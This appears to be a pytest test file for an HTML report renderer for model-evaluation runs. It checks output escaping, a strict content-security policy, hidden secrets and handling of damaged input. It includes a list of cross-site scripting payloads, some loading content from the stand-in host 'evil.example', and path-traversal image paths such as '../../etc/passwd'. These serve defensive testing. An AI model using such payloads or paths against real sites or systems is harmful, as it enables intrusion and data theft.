"""The page: complete, self-contained, honest about what is missing, and deaf to what responses say."""

import base64
import hashlib
import json
import re
import subprocess
import sys
import time

import pytest

from boresight.errors import InputError
from boresight.reports import render, write

ATTACKS = (
    "</p><script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\"></svg>",
    "</script><script src='http://evil.example/a.js'></script>",
    "<a href=\"javascript:document.title='owned'\">x</a>",
    "<style>body{display:none}</style><link rel=stylesheet href=http://evil.example/b.css>",
    "<iframe src='http://evil.example/c'></iframe><meta http-equiv=refresh content='0;url=http://evil.example/d'>",
    "{{ 7 * 191 }} {% raw %} ]]> <!-- --> &lt;script&gt;",
    '\'" onmouseover="document.title=\'owned\'" x="',
)


def row(run, metric, value, difference=None, low=None, high=None, **more):
    return {
        "run": run,
        "metric": metric,
        "n": 60,
        "value": value,
        "low": value - 0.01,
        "high": value + 0.01,
        "difference": difference,
        "difference_low": low,
        "difference_high": high,
        **more,
    }


def only_manifest(path, **manifest):
    path.mkdir(exist_ok=True)
    (path / "manifest.json").write_text(json.dumps(manifest))
    return path


def with_results(path, *rows):
    only_manifest(path, title="t")
    (path / "results.json").write_text(json.dumps(rows))
    return render(path)


def visible_text(page):
    """The page's text without head, markup and script."""
    body = page[page.index("<body>") : page.rindex("<script>")]
    return re.sub(r"\s+", " ", re.sub(r"<[^>]*>", " ", body))


def append(path, *objects):
    with path.open("a", encoding="utf-8") as stream:
        stream.writelines(json.dumps(item) + "\n" for item in objects)


def attack(folder):
    """Puts every attack wherever a folder can hold text."""
    item = {"item_id": "scene0000:describe", "group": "g", "num_tokens": 1, "image": "../../etc/passwd"}
    for run in ("base", "mdpo"):
        path = folder / "responses" / f"{run}.jsonl"
        path.write_text("")
        for index, text in enumerate(ATTACKS):
            claims = [{"start": 0, "end": 4, "verdict": "false", "label": text, "claim": text}]
            append(path, {**item, "item_id": f"{text}{index}", "prompt": text, "response": text, "claims": claims})
    text = "".join(ATTACKS)
    append(folder / "train" / "dpo" / "health.jsonl", {"step": 3, "name": text, "message": text})
    results = json.loads((folder / "results.json").read_text())
    results += [row(text, text, 0.5, reason=text), row("base", text, 0.5, reason=text)]
    (folder / "results.json").write_text(json.dumps(results))
    (folder / "manifest.json").write_text(json.dumps({"title": text, "created": text, text: {text: [text]}}))
    return folder


def test_a_page_is_one_file_without_any_address_but_its_own(folder):
    page = render(folder)
    assert not re.search(r"https?://|//[a-z]+\.|@import|url\(", page)
    assert set(re.findall(r"(?:src|href)=\"([a-z]*[:#])", page)) == {"#", "data:"}


def test_the_policy_allows_exactly_the_style_and_script_of_the_page(folder):
    page = render(folder)
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)[1].replace("&#39;", "'")
    assert policy.startswith("default-src 'none'; img-src data:;")
    assert "unsafe" not in policy
    for tag in ("style", "script"):
        (source,) = re.findall(rf"<{tag}>(.*?)</{tag}>", page, re.DOTALL)
        digest = base64.b64encode(hashlib.sha256(source.encode()).digest()).decode()
        assert f"{tag}-src 'sha256-{digest}'" in policy


def test_no_element_carries_a_style_or_a_handler_which_the_policy_would_drop(folder):
    assert not re.search(r"<[^>]+\s(?:style|on[a-z]+)=", render(folder))


def test_text_from_files_never_becomes_markup(folder):
    page = render(attack(folder))
    for tag in ("script", "style"):
        assert len(re.findall(rf"<{tag}", page)) == 1
    assert not re.search(r"<(?:iframe|a href=\"java|img src=x|svg on)", page)
    assert "1337" not in page


def test_characters_that_hide_or_reorder_text_are_shown_as_code_points(folder):
    path = folder / "responses" / "mdpo.jsonl"
    lines = path.read_text().splitlines()
    first = json.loads(lines[0]) | {"response": "a\u202eb\x1b[31m\x00\u2066c\ud800\U000e0041", "claims": []}
    path.write_text("\n".join([json.dumps(first)]))
    (folder / "responses" / "base.jsonl").write_text(lines[0])
    page = render(folder)
    assert "a⟨U+202E⟩b⟨U+001B⟩[31m⟨U+0000⟩⟨U+2066⟩c⟨U+D800⟩⟨U+E0041⟩" in page
    assert not re.search("[\x00-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", page)
    page.encode("utf-8")


def test_the_page_shows_each_part_of_a_complete_folder(folder):
    text = visible_text(render(folder))
    for expected in (
        "Synthetic example: three runs on made-up scenes",
        "2026-01-01 00:00 UTC",
        "False mentions (CHAIR-i)",
        "lower is better",
        "Media removed",
        "Log-probability: mdpo",
        "KL from the reference",
        "Gradient norm",
        "Describe the picture.",
        "transformers",
        "6 min 28 s",
    ):
        assert expected in text


def test_rates_are_percent_on_the_page_and_differences_are_percentage_points(tmp_path):
    page = visible_text(
        with_results(tmp_path, row("base", "chair_i", 0.274), row("dpo", "chair_i", 0.091, -0.183, -0.21, -0.154))
    )
    assert "27.4%" in page
    assert "9.1%" in page
    assert "\N{MINUS SIGN}18.3 pp" in page
    assert "\N{MINUS SIGN}21.0 to \N{MINUS SIGN}15.4" in page


def test_secrets_in_the_manifest_are_hidden(folder):
    page = render(folder)
    assert "sk-sentinel" not in page
    assert "(hidden)" in page


def test_a_folder_without_a_manifest_is_refused_with_what_to_expect(tmp_path):
    with pytest.raises(InputError, match=r"no manifest\.json; expected the folder that a run wrote"):
        render(tmp_path)


def test_a_manifest_alone_gives_a_page_that_says_what_is_missing(tmp_path):
    text = visible_text(render(only_manifest(tmp_path / "run", title="bare")))
    for missing in (
        "No results are stored",
        "No control with the media removed",
        "No training metrics",
        "Responses of base and of one more run",
        "nothing can be said about a change",
    ):
        assert missing in text


@pytest.mark.parametrize("content", ["{", "[]", "\x00", '"text"', "[" * 100_000])
@pytest.mark.parametrize("name", ["manifest.json", "results.json"])
def test_a_damaged_file_becomes_a_note(folder, name, content):
    (folder / name).write_text(content)
    if (name, content) == ("results.json", "[]"):
        return
    assert re.search(rf"<li>{re.escape(name)} (cannot be read|does not hold)", render(folder))


@pytest.mark.parametrize("name", ["responses/mdpo.jsonl", "train/mdpo/metrics.jsonl"])
def test_damaged_lines_are_counted_and_the_first_is_named(folder, name):
    path = folder / name
    lines = path.read_text().splitlines()
    lines[4], lines[9] = lines[4][:20], "[1, 2]"
    path.write_bytes("\n".join(lines).encode() + b"\n\xff\xfe\n")
    assert f"{name}: skipped 3 damaged lines, the first is line 5." in visible_text(render(folder))


def test_damaged_claims_make_a_damaged_line_and_not_a_wrong_mark(folder):
    path = folder / "responses" / "mdpo.jsonl"
    bad = {"item_id": "x", "prompt": "p", "response": "short"}
    for claim in (
        {"start": 0, "end": 99, "verdict": "true"},
        {"start": 0, "end": 2, "verdict": "maybe"},
        {"start": -1},
    ):
        append(path, bad | {"claims": [claim]})
    assert "responses/mdpo.jsonl: skipped 3 damaged lines, the first is line 61." in visible_text(render(folder))


def test_a_bad_result_row_is_skipped_by_name_and_the_rest_is_shown(tmp_path):
    text = visible_text(with_results(tmp_path, row("base", "chair_i", 0.2), {"run": "dpo"}))
    assert "Skipped: row 2 of results.json" in text
    assert "20.0%" in text


def test_null_metric_values_leave_a_gap_and_nan_is_not_drawn(folder):
    path = folder / "train" / "dpo" / "metrics.jsonl"
    path.write_text('{"step": 1, "loss": NaN, "kl": null}\n{"step": 2, "loss": 0.5}\n{"step": null}\n')
    page = render(folder)
    assert "nan" not in re.findall(r'points="([^"]*)"', page)
    assert not re.search(r'(?:points|x1|y1|cx|cy)="[^"]*(?:nan|inf)', page)


def test_a_partial_run_is_announced(folder):
    path = folder / "responses" / "mdpo.jsonl"
    path.write_text("\n".join(path.read_text().splitlines()[:41]))
    assert "Partial: mdpo 41 of 60 responses are stored" in visible_text(render(folder))


@pytest.mark.parametrize(
    "image", ["../../outside.png", "/etc/hostname", "media/none.png", "http://evil.example/x.png", "results.json"]
)
def test_a_picture_that_is_not_a_picture_of_the_folder_is_replaced_by_the_reason(folder, image):
    for run in ("base", "mdpo"):
        path = folder / "responses" / f"{run}.jsonl"
        path.write_text(json.dumps(json.loads(path.read_text().splitlines()[0]) | {"image": image}))
    page = render(folder)
    assert "picture not shown" in page
    assert 'src="data:image' not in page


def test_a_huge_response_is_cut_and_the_rest_is_counted(folder):
    for run in ("base", "mdpo"):
        line = {"item_id": "x", "prompt": "p", "response": "word " * 600_000, "claims": []}
        (folder / "responses" / f"{run}.jsonl").write_text(json.dumps(line))
    page = render(folder)
    assert "2,997,000 more characters are in the file." in page
    assert len(page) < 600_000


def test_ten_thousand_items_give_a_small_page_in_seconds(folder):
    for run in ("base", "mdpo"):
        path = folder / "responses" / f"{run}.jsonl"
        lines = [json.loads(line) for line in path.read_text().splitlines()]
        many = [lines[i % 60] | {"item_id": f"item{i}"} for i in range(10_000)]
        path.write_text("".join(json.dumps(line) + "\n" for line in many))
    rows = [row(f"run{i}", "chair_i", 0.5) for i in range(10_000)]
    (folder / "results.json").write_text(json.dumps(rows))
    start = time.process_time()
    page = render(folder)
    assert time.process_time() - start < 10
    assert len(page) < 1_500_000
    assert "9,600 more rows are in results.json." in page


def test_a_run_in_the_folder_itself_is_drawn(tmp_path):
    folder = only_manifest(tmp_path / "run")
    append(folder / "metrics.jsonl", *({"step": i, "loss": 1 / i} for i in range(1, 9)))
    page = render(folder)
    assert "<b>Loss</b>" in page
    assert ">training</text>" in page


def test_write_puts_the_page_beside_the_results_and_leaves_no_part_behind(folder):
    before = {path.name for path in folder.iterdir()}
    assert write(folder) == folder / "report.html"
    assert {path.name for path in folder.iterdir()} - before == {"report.html"}
    assert (folder / "report.html").read_text(encoding="utf-8") == render(folder)


def test_write_makes_the_folder_it_is_told_to_write_to(folder, tmp_path):
    assert write(folder, tmp_path / "new" / "page.html").is_file()


def test_reports_import_no_torch():
    code = "import sys, boresight.reports; sys.exit('torch' in sys.modules or 'transformers' in sys.modules)"
    subprocess.run([sys.executable, "-c", code], check=True)
